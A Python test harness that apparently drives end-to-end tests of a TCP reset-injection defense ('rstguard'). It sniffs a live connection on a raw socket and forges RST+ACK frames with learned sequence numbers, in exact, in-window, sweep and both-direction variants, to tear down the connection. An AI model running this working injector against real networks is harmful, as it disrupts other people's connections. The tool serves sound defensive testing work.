#!/usr/bin/env python3
"""TCP reset injector for the rstguard end-to-end tests (stdlib only, root).

Run it inside the server's namespace. It sniffs one connection on --iface
(raw AF_PACKET, both directions), learns each direction's sequence numbers,
acknowledgements, window (scaled by the window scale seen in the handshake),
TTL and MAC addresses from the latest packets, waits until the connection has
carried data both ways and has been quiet for --quiet seconds, then injects
crafted Ethernet/IPv4/TCP frames with correct IPv4 and TCP checksums.

Attacks (every reset is RST+ACK with --ttl, no TCP options, window 0):
  oow     one reset toward the client, seq far outside its window (rcv_nxt + 2^30)
  inwin   one reset toward the client, seq inside the window but not exact
          (rcv_nxt + --inwin-offset, or half the window if that does not fit)
  exact   one reset toward the client with exactly the seq it expects
  sweep   --count resets toward the client in one burst, seq stepping by the
          client's window; the sweep straddles the window with one reset
          landing half a window inside it (never the exact seq)
  both    exact resets toward both ends back to back: toward the client on
          --iface, toward the server (claiming to be the client) on
          --peer-iface inside --peer-netns (the client's side of the path)

Resets toward the client claim to come from the server and are sent on
--iface (the server's side), so they cross whatever sits between the hosts.

--bad-checksum gives every reset a wrong TCP checksum: the negative control
that shows the receiving kernel verifies checksums (an exact reset with a bad
checksum must not kill the connection).

After injecting, it keeps sniffing for --observe seconds and reports what it
saw (for example the client's challenge ACK after an in-window reset).

Output on stdout: "ready" once sniffing, then one JSON line with what it
learned, what it sent and what it saw after. Exit 0 when it injected, 2 when
the connection was not seen in time, 1 on other errors.
"""

import argparse
import ctypes
import json
import os
import random
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
CLONE_NEWNET = 0x40000000
PACKET_OUTGOING = 4

FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10
M32 = 0xFFFFFFFF


def out(line):
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


def log(msg):
    sys.stderr.write("attacker: %s\n" % msg)
    sys.stderr.flush()


# ------------------------------------------------------------ arithmetic --

def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def seq_after(a, b):
    """a is later than b in sequence space."""
    return a != b and ((a - b) & M32) < 0x80000000


def seq_max(a, b):
    if a is None:
        return b
    if b is None:
        return a
    return a if seq_after(a, b) else b


def flag_str(f):
    return "".join(c for bit, c in ((FIN, "F"), (SYN, "S"), (RST, "R"), (PSH, "P"), (ACK, "A")) if f & bit) or "."


# ----------------------------------------------------------------- parse --

def parse(frame):
    """Ethernet/IPv4/TCP frame -> dict, or None. Verifies both checksums."""
    if len(frame) < 14 + 20 + 20:
        return None
    if struct.unpack("!H", frame[12:14])[0] != ETH_P_IP:
        return None
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[0] >> 4 != 4 or ihl < 20 or ip[9] != 6:
        return None
    total = struct.unpack("!H", ip[2:4])[0]
    if total < ihl + 20 or total > len(ip):
        return None
    tcp = ip[ihl:total]
    sport, dport, seq, ack, offfl, win = struct.unpack("!HHIIHH", tcp[:16])
    doff = (offfl >> 12) * 4
    if doff < 20 or doff > len(tcp):
        return None
    flags = offfl & 0x1FF
    opts = tcp[20:doff]
    plen = len(tcp) - doff
    pseudo = ip[12:20] + struct.pack("!BBH", 0, 6, len(tcp))
    pkt = {
        "mac_dst": frame[0:6], "mac_src": frame[6:12],
        "src": socket.inet_ntoa(ip[12:16]), "dst": socket.inet_ntoa(ip[16:20]),
        "ttl": ip[8], "ip_id": struct.unpack("!H", ip[4:6])[0],
        "sport": sport, "dport": dport, "seq": seq, "ack": ack, "flags": flags,
        "win": win, "plen": plen, "wscale": None, "ts": None,
        "csum_ok": csum(ip[:ihl]) == 0 and csum(pseudo + tcp) == 0,
    }
    i = 0
    while i < len(opts):
        kind = opts[i]
        if kind == 0:
            break
        if kind == 1:
            i += 1
            continue
        if i + 1 >= len(opts) or opts[i + 1] < 2:
            break
        ln = opts[i + 1]
        if kind == 3 and ln == 3:
            pkt["wscale"] = opts[i + 2]
        elif kind == 8 and ln == 10:
            pkt["ts"] = struct.unpack("!II", opts[i + 2:i + 10])
        i += ln
    return pkt


# ----------------------------------------------------------------- build --

def build(mac_src, mac_dst, ip_src, ip_dst, sport, dport, seq, ack, flags, ttl,
          win=0, ip_id=None, opts=b"", payload=b"", bad_tcp_csum=False):
    """A complete Ethernet frame with correct IPv4 and TCP checksums, padded to 60 bytes.
    bad_tcp_csum: a wrong TCP checksum instead (the receiver must discard it)."""
    src, dst = socket.inet_aton(ip_src), socket.inet_aton(ip_dst)
    if ip_id is None:
        ip_id = random.randrange(0, 0x10000)
    doff = 20 + len(opts)
    assert doff % 4 == 0
    tcp = struct.pack("!HHIIHHHH", sport, dport, seq & M32, ack & M32,
                      ((doff // 4) << 12) | flags, win, 0, 0) + opts + payload
    c = csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    if bad_tcp_csum:
        c ^= 0x5A5A
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ip_id, 0, ttl, 6, 0, src, dst)
    iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
    frame = mac_dst + mac_src + struct.pack("!H", ETH_P_IP) + iph + tcp
    return frame + b"\0" * max(0, 60 - len(frame))


# --------------------------------------------------------------- sockets --

def packet_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    s.bind((iface, 0))
    return s


def _setns(fd):
    if hasattr(os, "setns"):
        os.setns(fd, CLONE_NEWNET)
        return
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.setns(fd, CLONE_NEWNET) != 0:
        e = ctypes.get_errno()
        raise OSError(e, "setns: " + os.strerror(e))


def packet_socket_in_netns(netns, iface):
    """An AF_PACKET socket on iface inside namespace netns (the socket stays there)."""
    here = os.open("/proc/self/ns/net", os.O_RDONLY)
    there = os.open(os.path.join("/run/netns", netns), os.O_RDONLY)
    try:
        _setns(there)
        try:
            return packet_socket(iface)
        finally:
            _setns(here)
    finally:
        os.close(here)
        os.close(there)


# ---------------------------------------------------------------- sniffer --

class Direction:
    def __init__(self):
        self.last = None      # the latest packet
        self.nxt = None       # highest seq + len (+SYN/FIN) sent
        self.ack = None       # latest acknowledgement sent
        self.wscale = None    # from its SYN
        self.syn = False
        self.data = 0         # payload bytes sent
        self.packets = 0

    def update(self, p):
        self.packets += 1
        self.last = p
        end = (p["seq"] + p["plen"] + (1 if p["flags"] & SYN else 0) + (1 if p["flags"] & FIN else 0)) & M32
        self.nxt = seq_max(self.nxt, end)
        if p["flags"] & ACK:
            self.ack = seq_max(self.ack, p["ack"])
        if p["flags"] & SYN:
            self.syn = True
            self.wscale = p["wscale"]
        self.data += p["plen"]


class Conn:
    def __init__(self, client, server):
        self.client, self.server = client, server
        self.c2s, self.s2c = Direction(), Direction()
        self.bad_csum = 0

    def direction(self, p):
        a, b = (p["src"], p["sport"]), (p["dst"], p["dport"])
        if a == self.client and b == self.server:
            return "c2s"
        if a == self.server and b == self.client:
            return "s2c"
        return None

    def add(self, p):
        d = self.direction(p)
        if d is None:
            return None
        if not p["csum_ok"]:
            self.bad_csum += 1
        (self.c2s if d == "c2s" else self.s2c).update(p)
        return d

    def scale(self, d, assume):
        """Window scale that applies to what direction d advertises."""
        if self.c2s.syn and self.s2c.syn:
            if self.c2s.wscale is not None and self.s2c.wscale is not None:
                return d.wscale, "handshake"
            return 0, "handshake"
        return assume, "assumed"


def sniff_frames(sock, until):
    """Yield parsed frames until the monotonic deadline."""
    while True:
        left = until - time.monotonic()
        if left <= 0:
            return
        r, _, _ = select.select([sock], [], [], min(left, 0.05))
        if not r:
            yield None  # a tick, so callers can check quiet periods
            continue
        try:
            frame = sock.recv(65535)
        except BlockingIOError:
            continue
        p = parse(frame)
        if p is not None:
            yield p


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--iface", required=True, help="interface on the server's side (sniff + inject)")
    ap.add_argument("--client", required=True, help="IP:PORT of the client")
    ap.add_argument("--server", required=True, help="IP:PORT of the server")
    ap.add_argument("--attack", required=True, choices=["oow", "inwin", "exact", "sweep", "both"])
    ap.add_argument("--peer-netns", help="namespace of the client's side (for 'both')")
    ap.add_argument("--peer-iface", help="interface on the client's side (for 'both')")
    ap.add_argument("--ttl", type=int, default=128, help="TTL of the forged resets (default 128)")
    ap.add_argument("--count", type=int, default=64, help="resets in a sweep (default 64, at most 4096)")
    ap.add_argument("--bad-checksum", action="store_true",
                    help="give the resets a wrong TCP checksum (an insertion: the host discards them)")
    ap.add_argument("--inwin-offset", type=int, default=1000)
    ap.add_argument("--quiet", type=float, default=0.2, help="seconds of silence before injecting")
    ap.add_argument("--observe", type=float, default=0.3, help="seconds to keep sniffing after injecting")
    ap.add_argument("--assume-wscale", type=int, default=7, help="window scale when the handshake was missed")
    ap.add_argument("--max-time", type=float, default=10.0, help="give up when the connection is not seen")
    args = ap.parse_args()

    def ep(s):
        h, p = s.rsplit(":", 1)
        return (h, int(p))

    client, server = ep(args.client), ep(args.server)
    count = max(1, min(args.count, 4096))
    if args.attack == "both" and not (args.peer_netns and args.peer_iface):
        log("'both' needs --peer-netns and --peer-iface")
        return 1

    sock = packet_socket(args.iface)
    peer = packet_socket_in_netns(args.peer_netns, args.peer_iface) if args.attack == "both" else None
    out("ready")

    conn = Conn(client, server)
    start = time.monotonic()
    last_pkt = None
    triggered = False
    for p in sniff_frames(sock, start + args.max_time):
        now = time.monotonic()
        if p is not None and conn.add(p):
            last_pkt = now
        if (conn.c2s.data > 0 and conn.s2c.data > 0 and last_pkt is not None
                and now - last_pkt >= args.quiet):
            triggered = True
            break
    if not triggered:
        log("connection %s <-> %s not seen carrying data both ways within %.1fs (c2s %d pkts, s2c %d pkts)"
            % (args.client, args.server, args.max_time, conn.c2s.packets, conn.s2c.packets))
        out(json.dumps({"attack": args.attack, "error": "connection not seen",
                        "c2s_packets": conn.c2s.packets, "s2c_packets": conn.s2c.packets}))
        return 2

    c2s, s2c = conn.c2s, conn.s2c
    # What each end expects next, from the latest packets of both directions.
    client_rcv_nxt = seq_max(s2c.nxt, c2s.ack)
    server_rcv_nxt = seq_max(c2s.nxt, s2c.ack)
    cscale, how = conn.scale(c2s, args.assume_wscale)
    sscale, _ = conn.scale(s2c, args.assume_wscale)
    client_win = c2s.last["win"] << cscale
    server_win = s2c.last["win"] << sscale
    flow_ttl_s2c = s2c.last["ttl"]
    mac_c, mac_s = c2s.last["mac_src"], s2c.last["mac_src"]

    # RST+ACK toward the client acknowledges what the client has sent (server's rcv_nxt).
    def rst_to_client(seq):
        return build(mac_s, mac_c, server[0], client[0], server[1], client[1],
                     seq, server_rcv_nxt, RST | ACK, args.ttl, bad_tcp_csum=args.bad_checksum)

    def rst_to_server(seq):
        return build(mac_c, mac_s, client[0], server[0], client[1], server[1],
                     seq, client_rcv_nxt, RST | ACK, args.ttl, bad_tcp_csum=args.bad_checksum)

    plan = []  # (socket, frame, description)
    win = client_win if client_win > 0 else 65535
    if args.attack == "oow":
        plan.append((sock, rst_to_client((client_rcv_nxt + (1 << 30)) & M32), "to_client"))
    elif args.attack == "inwin":
        off = args.inwin_offset if 0 < args.inwin_offset < client_win else max(1, client_win // 2)
        plan.append((sock, rst_to_client((client_rcv_nxt + off) & M32), "to_client"))
    elif args.attack == "exact":
        plan.append((sock, rst_to_client(client_rcv_nxt), "to_client"))
    elif args.attack == "sweep":
        half = win // 2 if win > 1 else 1
        base = (client_rcv_nxt + half - (count // 2) * win) & M32
        for k in range(count):
            plan.append((sock, rst_to_client((base + k * win) & M32), "to_client"))
    elif args.attack == "both":
        plan.append((sock, rst_to_client(client_rcv_nxt), "to_client"))
        plan.append((peer, rst_to_server(server_rcv_nxt), "to_server"))

    sent = []
    t_inject = time.monotonic()
    for s, frame, d in plan:  # one burst, back to back
        s.send(frame)
    for s, frame, d in plan:
        p = parse(frame)
        sent.append({"dir": d, "seq": p["seq"], "ack": p["ack"], "flags": flag_str(p["flags"]),
                     "ttl": p["ttl"], "csum_ok": p["csum_ok"]})

    # What follows: challenge ACKs, resets crossing back, the connection going on.
    after = []
    for p in sniff_frames(sock, time.monotonic() + args.observe):
        if p is None:
            continue
        d = conn.direction(p)
        if d is None:
            continue
        after.append({"t_ms": round((time.monotonic() - t_inject) * 1000, 1), "dir": d,
                      "flags": flag_str(p["flags"]), "seq": p["seq"], "ack": p["ack"],
                      "plen": p["plen"], "ttl": p["ttl"]})
    challenge_acks = sum(1 for a in after if a["dir"] == "c2s" and a["flags"] == "A" and a["plen"] == 0)

    out(json.dumps({
        "attack": args.attack,
        "client": args.client, "server": args.server,
        "learned": {
            "client_rcv_nxt": client_rcv_nxt, "server_rcv_nxt": server_rcv_nxt,
            "client_window": client_win, "server_window": server_win,
            "client_wscale": cscale, "server_wscale": sscale, "wscale_from": how,
            "flow_ttl_to_client": flow_ttl_s2c,
            "client_ts": c2s.last["ts"] is not None, "server_ts": s2c.last["ts"] is not None,
            "packets_seen": c2s.packets + s2c.packets, "bad_checksums_seen": conn.bad_csum,
        },
        "sent": sent,
        "after": after[:64],
        "challenge_acks": challenge_acks,
    }))
    return 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except KeyboardInterrupt:
        sys.exit(1)
